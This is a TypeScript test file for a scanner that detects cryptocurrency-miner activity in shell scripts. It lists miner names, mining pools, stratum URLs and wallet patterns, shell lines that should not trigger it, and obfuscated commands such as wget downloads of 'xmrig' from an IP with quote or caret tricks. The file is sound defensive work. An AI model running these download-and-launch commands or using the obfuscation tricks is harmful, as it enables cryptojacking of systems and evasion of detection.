import { describe, expect, it } from 'vitest';
import { createScan } from '../../../lambda/lookups/fingerprints.ts';

function inScript(...layers: readonly string[]): readonly string[] {
  const scan = createScan();
  for (const layer of layers) scan.read(layer);
  return scan.found();
}

describe('fingerprints', () => {
  it.each([
    ['xmr-stak', './xmr-stak-rx --noTest'],
    ['cpuminer', 'git clone https://github.com/JayDDee/cpuminer-opt'],
    ['minerd', 'nohup /tmp/minerd -B'],
    ['lolminer', './lolMiner --algo ETHASH'],
    ['gminer', 'tar xf gminer_3_44_linux64.tar.xz'],
    ['nbminer', 'NBMiner_Linux/nbminer'],
    ['phoenixminer', './PhoenixMiner -pool x'],
    ['teamredminer', './teamredminer'],
    ['srbminer', './SRBMiner-MULTI'],
    ['wildrig', './wildrig-multi'],
    ['rigel', 'rigel-1.19.1-linux.tar.gz'],
    ['bzminer', './bzminer'],
    ['onezerominer', './onezerominer'],
    ['kawpowminer', './kawpowminer'],
    ['verus', './verus-solver'],
    ['claymore', "Claymore's Dual Ethereum"],
    ['hellminer', './hellminer'],
    ['qubic', './qli-Client'],
    ['miner-malware', 'docker pull yenik65958/secret:user'],
    ['pool:nicehash', 'randomxmonero.auto.nicehash.com'],
    ['pool:unmineable', 'rx.unmineable.com'],
    ['pool:hashvault', 'pool.hashvault.pro'],
    ['pool:rplant.xyz', 'eu.rplant.xyz:17155'],
    ['protocol:stratum', 'stratum2+tcp://h'],
    ['protocol:stratum', 'stratum+ssl://h'],
    ['protocol:daemon', 'daemon+tcp://10.0.0.1'],
    ['protocol:stratum-rpc', '{"method":"mining.subscribe"}'],
    ['config:algorithm', '--algo=randomx'],
    ['config:coin', '--coin=monero'],
    ['config:cryptonight', '"cn/r"'],
    ['config:threads-hint', '--cpu-max-threads-hint=75'],
    ['wallet:monero', `-u 4A${'b7'.repeat(46)}c`],
    ['wallet:monero', `-u 8B${'b7'.repeat(46)}c`],
  ])('%s is found in: %s', (name, line) => {
    expect(inScript(`#!/bin/sh\n${line}\n`)).toContain(name);
  });

  it.each([
    ['a traffic generator of the same name as a miner', 'cd /opt/trex/v3.04 && ./t-rex-64 -i -c 4'],
    ['a star, as a host name', 'hostnamectl set-hostname rigel'],
    ['a compression library', 'apt-get install -y libminiz-dev'],
    ['a variable', 'const randomX = Math.random(); draw(randomX);'],
    ['a device', 'cat /dev/rx/0 /sys/class/net/eth0/queues/rx/0'],
    ['documentation software', 'git clone https://example.com/minerdocs && loggminer rapidminer textminer'],
    ['time of day', 'ntpq -c "rv 0 stratum,offset"; local stratum 10'],
    ['a file system', 'rm /etc/zfs/zpool.cache; zpool.cache'],
    ['a Spark pool', 'az synapse spark pool create --name sparkpool'],
    ['one vague word', 'elasticdump -o es.internal:9200 -u elastic -p secret'],
    ['hash functions of a password file', 'authconfig --passalgo=sha512; mkpasswd -m yescrypt'],
    ['94 characters instead of a wallet', `token=4A${'b7'.repeat(46)}`],
    ['process mining', 'java -cp app.jar com.example.process.mining.submit'],
  ])('stay quiet for %s', (_, line) => {
    expect(inScript(`#!/bin/sh\n${line}\n`)).toEqual([]);
  });

  it('that are vague count together', () => {
    expect(inScript('./kworker -o 203.0.113.7:443 -u worker1 -p x -a sha256d\n')).toEqual([
      'config:algorithm-flag',
      'config:command-line',
    ]);
  });

  it('that are vague count together from two layers of one text, and alone in none', () => {
    const layers = ['ALGO=" -a sha256d "\n', './w -o 203.0.113.7:443 -u me -p x\n'] as const;
    expect(inScript(...layers)).toEqual(['config:algorithm-flag', 'config:command-line']);
    for (const layer of layers) expect(inScript(layer)).toEqual([]);
  });
});

describe('words written so that they do not look like it', () => {
  it.each([
    'wget http://198.51.100.7/x""mrig',
    "wget http://198.51.100.7/xm''rig",
    'wget http://198.51.100.7/XMRig.tar.gz',
    'wget http://198.51.100.7/xm\\rig',
    'wget http://198.51.100.7/xm\\\nrig',
    'wget http://198.51.100.7/x$@mrig',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's variable
    'wget http://198.51.100.7/x${u}mrig',
    "Start-Process ('xm' + 'rig')",
    'start xm^rig.exe',
    'Start-Process xm`rig',
  ])('are read: %s', (line) => {
    expect(inScript(`#!/bin/bash\n${line}\n`)).toContain('xmrig');
  });
});
